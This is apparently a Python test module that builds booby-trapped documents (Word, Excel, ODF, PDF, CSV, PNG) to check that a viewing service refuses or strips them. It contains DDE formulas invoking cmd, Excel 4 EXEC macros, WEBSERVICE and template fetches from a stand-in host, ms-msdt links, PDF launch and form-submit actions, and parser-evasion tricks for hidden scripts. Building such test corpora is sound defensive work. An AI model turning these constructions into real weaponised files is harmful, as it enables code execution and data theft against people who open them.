"""Files that run, call or fetch something once a citizen has saved and opened them."""

import io
import struct
import zipfile
from functools import partial

from openpyxl.workbook.defined_name import DefinedName
from pypdf.generic import BooleanObject, NameObject, TextStringObject

from network.media.viewing.results import Refusal
from tests.factories.office import (
    entry_of,
    open_document,
    outline_docx,
    saved,
    slides_pptx,
    table_xlsx,
    with_entry,
)
from tests.media.conftest import PDF, png
from tests.media.corpus.honest_office import OLD

from . import making
from .making import PROGRAM, Stream, action, compound, field, opening, package, with_object
from .row import CLEANED, Row

MACRO_SHEET = b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
EQUATION_3 = bytes.fromhex("02ce020000000000c000000000000046")
PAGE = b"<html><body><script>save(atob('TVqQ'))</script></body></html>"


def macro_sheet(part: str) -> bytes:
    """A workbook with a sheet of Excel 4 macros, whatever its part is called."""
    media = "application/vnd.ms-excel.macrosheet+xml"
    return making.with_type(with_entry(table_xlsx(), part, MACRO_SHEET), part, media)


def defined_name(name: str, words: str) -> bytes:
    book = making.workbook("Một vụ")
    book.defined_names[name] = DefinedName(name, attr_text=words)
    return saved(book)


def retyped(file: bytes, old: str, new: str) -> bytes:
    types = entry_of(file, making.TYPES)
    return with_entry(file, making.TYPES, types.replace(old.encode(), new.encode()))


def old_macro_sheet() -> bytes:
    """A workbook of Excel 97, embedded, that lists a macro sheet."""
    record = struct.pack("<HHIBB", 0x85, 8, 0, 0, 1) + b"\1\0"
    return compound(Stream("Workbook", struct.pack("<HHI", 0x809, 4, 0) + record))


def zipped(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, content)
    return out.getvalue()


def html_chunk() -> bytes:
    file = with_entry(outline_docx(), "word/afchunk.htm", PAGE)
    entry = "word/_rels/document.xml.rels"
    return making.with_relation(file, entry, "aFChunk", "afchunk.htm", "Internal")


def sending() -> bytes:
    next_act = action("ImportData", F=TextStringObject("a.fdf"))
    return opening("SubmitForm", F=TextStringObject("http://thu.example/"), Next=next_act)


def script_in_packed_object(*hidden: object) -> bytes:
    return making.in_object_stream("<</S/Java#53cript/JS(app.alert\\(1\\))>>", *hidden)


def hidden_object_streams() -> list[Row]:
    """PDFs with a script in an object stream that is hard to tell from any other stream."""
    usual, far = making.OBJECT_STREAM, b"/Pad(" + b"A" * 3000 + b")"
    late = b"/Filter/FlateDecode%b/Type/ObjStm/N 1/First 4"
    predicted = b"/DecodeParms<</Predictor 12/Columns 3>>/Pad( obj)" + usual
    hidden = {
        "far": (usual + far,),
        "behind-words": (usual + b"/Pad( obj)",),
        "behind-a-comment": (usual + b"% obj\n",),
        "packing-far": (late % far,),
        "packing-behind-words": (late % b"/Pad( obj)",),
        "return": (usual, b"stream\r"),
        "blank": (usual, b"stream \n"),
        "predicted": (predicted, b"stream\n", 3),
        # Viewers open an object stream without its type; what looks like an object hides the rest.
        "without-type": (b"/N 1/First 4/Filter/FlateDecode/Pad( obj)",),
        "without-type-far": (b"/N 1/First 4/Filter/FlateDecode" + far,),
        "without-type-by-reference": (b"/N 1/First 6 0 R/Filter/FlateDecode/Pad( obj)",),
        "without-type-predicted": (
            b"/N 1/First%\n4/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 3>>/Pad( obj)",
            b"stream\n",
            3,
        ),
    }
    return [
        Row(f"object-stream-{name}.pdf", partial(script_in_packed_object, *how), CLEANED)
        for name, how in hidden.items()
    ]


def template(target: str) -> bytes:
    entry = "word/_rels/settings.xml.rels"
    return making.with_relation(outline_docx(), entry, "attachedTemplate", target)


def connected() -> bytes:
    part = "xl/connections.xml"
    words = (
        b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<connection id="1" name="q"><webPr url="http://thu.example/"/></connection></connections>'
    )
    return with_entry(table_xlsx(), part, words)


def event(href: str) -> str:
    return (
        "<script:event-listener xmlns:script='urn:oasis:names:tc:opendocument:xmlns:script:1.0' "
        f"script:event-name='dom:load' xlink:href='{href}'/>"
    )


def computed_cell(words: str) -> bytes:
    more = (
        "<table:table table:name='B'><table:table-row><table:table-cell "
        f"table:formula='{words}'/></table:table-row></table:table>"
    )
    return open_document("spreadsheet", more)


ROWS = [
    Row(
        "exe-in-package.docx", lambda: with_object(package("hoa-don.exe", PROGRAM)), Refusal.PROGRAM
    ),
    Row(
        "exe-called-txt.docx", lambda: with_object(package("ghi-chu.txt", PROGRAM)), Refusal.PROGRAM
    ),
    Row("script-in-package.docx", lambda: with_object(package("a.vbs", b"x=1")), Refusal.PROGRAM),
    Row(
        "shortcut-behind-a-label.docx",
        lambda: with_object(package("Cong van.pdf", b"x", path="C:\\a\\cv.lnk")),
        Refusal.PROGRAM,
    ),
    Row(
        "exe-as-picture.pptx",
        lambda: with_entry(slides_pptx(), "ppt/media/image9.png", PROGRAM),
        Refusal.PROGRAM,
    ),
    Row("equation-3.docx", lambda: with_object(compound(class_id=EQUATION_3)), Refusal.OBJECT),
    Row(
        "excel-4-sheet.xlsx",
        lambda: macro_sheet("xl/macrosheets/sheet1.xml"),
        Refusal.EXCEL4_MACROS,
    ),
    Row("excel-4-renamed.xlsx", lambda: macro_sheet("xl/worksheets/so.xml"), Refusal.EXCEL4_MACROS),
    Row(
        "auto-open-name.xlsx",
        lambda: defined_name("_xlnm.Auto_Open", "'Mức chi'!$A$1"),
        Refusal.EXCEL4_MACROS,
    ),
    Row(
        "exec-in-a-name.xlsx",
        lambda: defined_name("tong", 'EXEC("calc.exe")'),
        Refusal.EXCEL4_MACROS,
    ),
    Row("excel-4.ods", lambda: computed_cell('msoxl:=EXEC("calc")'), Refusal.EXCEL4_MACROS),
    Row("excel-4-in-object.docx", lambda: with_object(old_macro_sheet()), Refusal.EXCEL4_MACROS),
    Row("old-workbook.xlsx", lambda: OLD, Refusal.OLD_FORMAT),
    Row(
        "binary-workbook.xlsx",
        lambda: retyped(
            table_xlsx(),
            "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "vnd.ms-excel.sheet.binary.macroEnabled.main",
        ),
        Refusal.MACROS,
    ),
    Row(
        "vba.docx", lambda: with_entry(outline_docx(), "word/vbaProject.bin", b"x"), Refusal.MACROS
    ),
    Row(
        "vba-renamed.docx",
        lambda: with_entry(outline_docx(), "word/so.dat", compound(Stream("VBA", b"", 1))),
        Refusal.MACROS,
    ),
    Row(
        "macros-in-inner-workbook.docx",
        lambda: with_object(
            with_entry(table_xlsx(), "xl/vbaProject.bin", b"x"), "word/embeddings/Book1.xlsx"
        ),
        Refusal.MACROS,
    ),
    Row("macros.odt", lambda: open_document("text", **{"Basic/a.xml": "<a/>"}), Refusal.MACROS),
    Row(
        "macro-on-opening.odt",
        lambda: open_document("text", event("vnd.sun.star.script:a.b?language=Python")),
        Refusal.MACROS,
    ),
    Row(
        "template-on-the-web.docx", lambda: template("http://mau.example/a.dotm"), Refusal.EXTERNAL
    ),
    Row("template-on-a-server.docx", lambda: template("file://mau/a.dotm"), Refusal.EXTERNAL),
    Row(
        "object-elsewhere.docx",
        lambda: making.with_relation(
            outline_docx(),
            "word/_rels/document.xml.rels",
            "oleObject",
            "mhtml:http://thu.example/!x",
        ),
        Refusal.EXTERNAL,
    ),
    Row(
        "dde-in-pieces.docx",
        lambda: field("{", " DD", "EAU", 'TO c:\\\\a.exe "/k calc"', "|", "}"),
        Refusal.DDE,
    ),
    Row(
        "dde-computed.docx",
        lambda: field("{", "{", " QUOTE 68 68 69 65 85 84 79", "|", "}", " c:\\\\a", "|", "}"),
        Refusal.DDE,
    ),
    Row(
        "dde-formula.xlsx",
        lambda: saved(making.workbook("=cmd|'/c calc'!A1")),
        Refusal.DDE,
    ),
    Row("dde.csv", lambda: "Xã,Số\n\"=cmd|'/c calc'!A1\",1\n".encode(), Refusal.DDE),
    Row("dde-in-a-function.csv", lambda: b"\"=IF(1,cmd|'/c calc'!A1,2)\",1\n", Refusal.DDE),
    Row("dde-with-quotes.csv", lambda: b"+cmd|'/c ''calc'''!A1,1\n", Refusal.DDE),
    Row(
        "web-service.csv", lambda: b'a,"=1+WEBSERVICE(""http://thu.example"")"\n', Refusal.EXTERNAL
    ),
    Row(
        "way-out.docx", lambda: with_entry(outline_docx(), "../../thoat.txt", b"x"), Refusal.BROKEN
    ),
    Row(
        "web-service.xlsx",
        lambda: saved(making.workbook('=WEBSERVICE("http://thu.example")')),
        Refusal.EXTERNAL,
    ),
    Row("web-query.xlsx", connected, Refusal.EXTERNAL),
    Row("script-in-drawing.docx", lambda: making.drawing(' onload="alert(1)">'), Refusal.SCRIPT),
    Row("web-page-inside.docx", html_chunk, Refusal.SCRIPT),
    Row(
        "control.docx",
        lambda: with_entry(outline_docx(), "word/activeX/activeX1.xml", b"<a/>"),
        Refusal.CONTROL,
    ),
    Row(
        "link-that-runs.pptx",
        lambda: making.with_relation(
            slides_pptx(),
            "ppt/slides/_rels/slide1.xml.rels",
            "hyperlink",
            "ms-msdt:/id%20PCWDiagnostic",
        ),
        Refusal.PROGRAM,
    ),
    Row(
        "password.docx", lambda: compound(Stream("EncryptedPackage", b"x" * 99)), Refusal.ENCRYPTED
    ),
    Row("password.pdf", lambda: making.locked(making.clicking(), "mat"), Refusal.ENCRYPTED),
    Row("program-attached.pdf", lambda: making.attaching("bang-ke.exe", PROGRAM), Refusal.PROGRAM),
    Row(
        "program-called-csv.pdf", lambda: making.attaching("bang-ke.csv", PROGRAM), Refusal.PROGRAM
    ),
    Row("rich-media.pdf", making.playing, CLEANED),
    Row("attached-by-another-name.pdf", lambda: making.associated(making.MARK), CLEANED),
    Row("program-by-another-name.pdf", lambda: making.associated(making.PROGRAM), Refusal.PROGRAM),
    Row("archive-behind.pdf", lambda: PDF + zipped("a.js", b"x"), Refusal.TWO_FILES),
    Row("archive-behind.png", lambda: png() + zipped("a.html", b"x"), Refusal.TWO_FILES),
    Row(
        "script-when-opened.pdf",
        lambda: opening("JavaScript", JS=TextStringObject("app.alert(1)")),
        CLEANED,
    ),
    Row("script-in-packed-object.pdf", script_in_packed_object, CLEANED),
    *hidden_object_streams(),
    Row(
        "script-under-lock.pdf",
        lambda: making.locked(opening("JavaScript", JS=TextStringObject("app.alert(1)"))),
        CLEANED,
    ),
    Row(
        "starts-a-program.pdf",
        lambda: opening("Launch", F=TextStringObject("cmd.exe"), NewWindow=BooleanObject(True)),
        CLEANED,
    ),
    Row("sends-and-fetches.pdf", sending, CLEANED),
    Row(
        "opens-a-file.pdf", lambda: making.clicking("file:///C:/Windows/System32/calc.exe"), CLEANED
    ),
    Row(
        "opens-from-a-server.pdf",
        lambda: opening("GoToE", F=TextStringObject("\\\\thu.example\\a"), D=NameObject("/Fit")),
        CLEANED,
    ),
]
